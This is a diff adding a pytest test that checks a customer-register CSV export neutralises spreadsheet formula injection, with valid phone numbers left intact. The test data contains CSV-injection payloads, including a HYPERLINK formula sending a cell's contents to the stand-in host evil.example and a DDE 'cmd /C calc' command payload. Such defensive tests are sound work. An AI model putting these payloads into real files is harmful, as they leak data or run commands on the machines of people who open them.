@@ -16,7 +16,7 @@ from typing import Any
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from sqlalchemy import insert, update
+from sqlalchemy import insert, select, update
 
 from kkdesk.domain.consent import ConsentItem, MarketingChannel, MarketingPurpose
 from kkdesk.domain.levels import Level
@@ -367,3 +367,71 @@ def test_the_file_is_the_bare_query_written_as_csv(
     with open(out, encoding="utf-8-sig", newline="") as f:
         assert list(csv.reader(f)) == expected
     assert out.read_bytes().startswith("\ufeff".encode())
+
+
+def _export_rows(ds: DeskSession, channel: MarketingChannel, out: Path) -> dict[str, list[str]]:
+    marketing.export(ds, MarketingPurpose.MARKET_RESEARCH, channel, out)
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        return {row[0]: row for row in list(csv.reader(f))[1:]}
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised(ds: DeskSession, tmp_path: Path) -> None:
+    """OWASP's CSV injection: a cell starting with = + - @, tab or CR gets a leading
+    apostrophe; an E.164 phone (+ and digits) stays a phone. The values are written as
+    rows written outside kkdesk would be: the file must be safe whatever the register holds."""
+    from tests.orders_factory import add_customer
+
+    link = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    values = {
+        "first_names": link,
+        "street": "+1+cmd|' /C calc'!A0",
+        "post_office": "@SUM(1+1)",
+        "postal_code": "-2+3",
+        "email": "\tx@example.fi",
+        "phone_mobile": "+358401234567",
+    }
+    plain = add_customer(ds, "Plain")
+    evil = add_customer(ds, "Evil")
+    odd_phone = add_customer(ds, "Phone")
+    with ds.db.session() as s:
+        s.execute(update(Customer).where(Customer.number == evil).values(**values))
+        s.execute(
+            update(Customer)
+            .where(Customer.number.in_([plain, odd_phone]))
+            .values(email="a@example.fi", phone_mobile="+358501112222")
+        )
+        s.execute(update(Customer).where(Customer.number == odd_phone).values(phone_mobile="+1+A1"))
+        ids = s.scalars(select(Customer.id).where(Customer.number.in_([plain, evil, odd_phone])))
+        s.execute(
+            insert(ConsentEvent),
+            [
+                {
+                    "customer_id": cid,
+                    "contact_person_id": None,
+                    "item": item.value,
+                    "state": True,
+                    "received_on": date(2024, 1, 1),
+                    "channel": "letter",
+                    "recorded_by": "t",
+                    "recorded_at": NOW,
+                }
+                for cid in ids.all()
+                for item in (ConsentItem.EMAIL_MARKETING, ConsentItem.SMS_MARKETING)
+            ],
+        )
+    post = _export_rows(ds, MarketingChannel.POST, tmp_path / "post.csv")
+    assert post[evil][1:5] == [
+        "'" + link + " Evil",
+        "'+1+cmd|' /C calc'!A0",
+        "'-2+3",
+        "'@SUM(1+1)",
+    ]
+    assert post[plain][1] == "Aino Plain"  # ordinary cells are untouched
+    email = _export_rows(ds, MarketingChannel.EMAIL, tmp_path / "email.csv")
+    assert email[evil][2] == "'\tx@example.fi"
+    sms = _export_rows(ds, MarketingChannel.SMS, tmp_path / "sms.csv")
+    assert sms[evil][2] == "+358401234567" and sms[plain][2] == "+358501112222"
+    assert sms[odd_phone][2] == "'+1+A1"
+    for row in (*post.values(), *email.values(), *sms.values()):
+        for cell in row:
+            assert not cell.startswith(marketing.FORMULA_STARTS) or cell.startswith("+358")
